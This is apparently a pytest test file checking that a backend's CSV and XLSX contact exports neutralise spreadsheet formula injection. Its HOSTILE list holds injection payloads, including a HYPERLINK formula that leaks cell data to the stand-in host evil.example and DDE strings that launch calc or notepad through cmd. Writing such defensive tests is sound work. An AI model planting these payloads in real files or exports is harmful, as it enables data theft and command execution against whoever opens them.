"""Spreadsheet formula injection through exports: a value a spreadsheet would run as a formula
(=, +, -, @, tab or CR first) comes out as text - CSV cells prefixed with an apostrophe, XLSX
cells stored as strings, never as formulas."""

from __future__ import annotations

import csv
import io

import httpx
import openpyxl
import pytest

from backend.runtime import Services
from tests.conftest import TenantUser, new_tenant
from tests.exports.helpers import download, request_export

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture(scope="module")
async def exporter(services: Services, client: httpx.AsyncClient) -> TenantUser:
    admin = await new_tenant(services, client, "formula")
    for value in HOSTILE:
        created = await client.post(
            "/api/v1/contacts", json={"last_name": value}, headers=admin.headers
        )
        assert created.status_code == 201, created.text
    return admin


async def test_csv_cells_that_look_like_formulas_are_text(
    client: httpx.AsyncClient, exporter: TenantUser
) -> None:
    export = (await request_export(client, exporter, format="csv", fields=["last_name"])).json()
    assert export["status"] == "ready", export
    rows = list(csv.reader(io.StringIO((await download(client, exporter, export["id"])).text)))
    cells = {cell for row in rows for cell in row}
    for value in HOSTILE:
        assert "'" + value in cells
        assert value not in cells


async def test_xlsx_cells_that_look_like_formulas_are_strings(
    client: httpx.AsyncClient, exporter: TenantUser
) -> None:
    export = (await request_export(client, exporter, format="xlsx", fields=["last_name"])).json()
    assert export["status"] == "ready", export
    book = openpyxl.load_workbook(
        io.BytesIO((await download(client, exporter, export["id"])).content)
    )
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for value in HOSTILE:
        assert value in texts
